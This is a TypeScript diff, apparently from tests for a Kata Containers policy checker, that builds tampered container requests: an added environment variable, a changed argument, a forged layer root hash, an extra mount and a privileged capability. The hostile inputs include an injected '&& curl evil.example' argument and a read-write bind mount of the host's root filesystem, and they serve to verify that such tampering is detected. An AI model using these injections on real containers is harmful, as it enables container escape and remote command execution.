@@ -27,9 +27,9 @@ function mutations(request: Request): { name: string; path: RegExp; request: Req
   const args = copy();
   args.OCI.Process.Args[args.OCI.Process.Args.length - 1] += ' && curl evil.example';
   const storage = copy();
-  const layer = storage.storages.find((s) => s.options.some((o) => o.startsWith('io.katacontainers.fs-opt.root-hash=')))!;
-  const i = layer.options.findIndex((o) => o.startsWith('io.katacontainers.fs-opt.root-hash='));
-  layer.options[i] = 'io.katacontainers.fs-opt.root-hash=' + 'f'.repeat(64);
+  const isPin = (o: string) => o.startsWith('io.katacontainers.fs-opt.root-hash=');
+  const layer = storage.storages.find((s) => s.options.some(isPin));
+  if (layer) layer.options[layer.options.findIndex(isPin)] = 'io.katacontainers.fs-opt.root-hash=' + 'f'.repeat(64);
   const mount = copy();
   mount.OCI.Mounts.push({ destination: '/host', source: '/', type_: 'bind', options: ['rbind', 'rw'] });
   const cap = copy();
@@ -37,7 +37,7 @@ function mutations(request: Request): { name: string; path: RegExp; request: Req
   return [
     { name: 'added environment variable', path: /^OCI\.Process\.Env\[\d+\]$/, request: env },
     { name: 'changed argument', path: /^OCI\.Process\.Args(\[\d+\])?$/, request: args },
-    { name: 'changed layer root hash', path: /^storages\[\d+\]/, request: storage },
+    ...(layer ? [{ name: 'changed layer root hash', path: /^storages\[\d+\]/, request: storage }] : []),
     { name: 'extra mount', path: /^OCI\.Mounts(\[\d+\])?/, request: mount },
     { name: 'privileged capability', path: /^OCI\.Process\.Capabilities\.Bounding/, request: cap },
   ];
